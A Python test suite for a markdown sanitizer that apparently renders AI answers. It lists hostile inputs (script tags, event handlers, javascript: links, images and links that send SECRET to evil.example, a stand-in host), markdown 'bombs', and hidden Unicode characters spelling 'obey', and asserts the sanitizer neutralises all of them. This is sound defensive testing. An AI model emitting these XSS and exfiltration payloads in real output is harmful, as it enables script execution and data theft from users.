import re
from html.parser import HTMLParser

import pytest

from nexus.prompts import markdown

HARMLESS = {
    "div", "p", "em", "strong", "s", "code", "pre", "br", "hr", "ul", "ol", "li", "blockquote", "h4", "h5", "h6", "span",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/p.png?d=SECRET)",
    "![pixel][r]\n\n[r]: https://evil.example/p.png",
    "[click](https://evil.example/?d=SECRET)",
    "[click](javascript:alert(1))",
    "[click](/logout)",
    "<https://evil.example/>",
    "https://evil.example/",
    "[a](data:text/html,<script>alert(1)</script>)",
    '[`x`](<https://evil.example/"onmouseover=alert(1)>)',
    "<iframe src=//evil.example></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "```html\n<script>alert(1)</script>\n```",
    '```x" onload="alert(1)\ncode\n```',
    "| a | b |\n|---|--:|\n| <b>1</b> | ![x](//evil.example) |",
    "<!-- -->\n<a href=x>y</a>",
    "&lt;script&gt; &#60;script&#62;",
    '[x](https://evil.example "\'><script>alert(1)</script>")',
    "</div></div><form action=//evil.example>",
    "<svg><foreignObject><body onload=alert(1)>",
    "*[*](x)_![_](//e)~~",
]


class Reader(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.text = set(), [], ""

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, *attribute) for attribute in attrs]

    def handle_data(self, data):
        self.text += data


def read(text: str) -> Reader:
    reader = Reader()
    reader.feed(str(markdown.html(text)))
    reader.close()
    return reader


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_an_answer_can_act_or_call_out(text):
    reader = read(text)
    assert reader.tags <= HARMLESS
    assert {(tag, name) for tag, name, _ in reader.attributes} <= {
        ("div", "class"),
        ("div", "dir"),
        ("span", "class"),
        ("td", "class"),
        ("th", "class"),
    }


def test_a_link_shows_where_it_would_have_gone():
    assert read("See [the report](https://example.org/a?b=1&c=2).").text == "See the report (https://example.org/a?b=1&c=2)."
    assert read("<https://example.org/>").text == "https://example.org/"
    assert read("![a chart](https://example.org/c.png)").text == "[a chart] (https://example.org/c.png)"


@pytest.mark.parametrize(
    "text", ["Fares of $5 and $7", "1:100:5 and :smile:", ":red[calm]", ":material/home:", "a -> b <- c -- d", "x $$y$$ z"]
)
def test_text_stays_as_it_was_written(text):
    assert read(text).text == text


def test_what_markdown_is_for_works():
    page = markdown.html(
        "# Brief\n\nUp **2 %**, ~~not~~ *down*.\n\n1. one\n2. two\n\n| c | n |\n|---|--:|\n| UA | 5 |\n\n> said\n\n---\n`code`\n\n3. three"
    )
    for expected in (
        "<h4>Brief</h4>",
        "<strong>2 %</strong>",
        "<s>not</s>",
        "<em>down</em>",
        "<li>one</li>",
        '<td class="right">5</td>',
        "<blockquote><p>said</p></blockquote>",
        "<hr>",
        "<code>code</code>",
        '<ol start="3">',
    ):
        assert expected in page


@pytest.mark.parametrize(
    "bomb",
    [
        "|" + "a|" * 250 + "\n|" + "-|" * 250 + "\n" + "|\n" * 5000,
        "> " * 5000 + "deep",
        "- " * 5000 + "deep",
        "*a **b " * 20_000,
        "[" * 50_000,
        "![" * 50_000,
        "`" * 100_000,
        "a\n" * 500_000,
        "# h\n" * 60_000,
        "<" * 100_000,
        "&" * 100_000,
        "~" * 50_000 + "\n",
    ],
)
def test_a_bomb_stays_small(bomb):
    page = markdown.html(bomb)
    assert len(page) < 6 * markdown.LONGEST
    assert len(re.findall(r"<\w", page)) <= 2 * markdown.MOST_ELEMENTS


def test_a_text_that_is_cut_says_so():
    assert "First 200,000 characters of 200,001" in markdown.html("a" * 200_001)


def test_unseen_characters_are_taken_out_and_seen_ones_stay():
    seen = "Größe año 日本語 العربية 👩\u200d🚀 a\tb\nc"
    assert markdown.plain(seen) == seen
    hidden = "".join(chr(0xE0000 + ord(character)) for character in "obey")
    assert markdown.plain(f"a\u202eb\u200bc\x00d\x1b[31me\ufeff{hidden}\u2066f\x85\u2028") == "abcd[31mef"
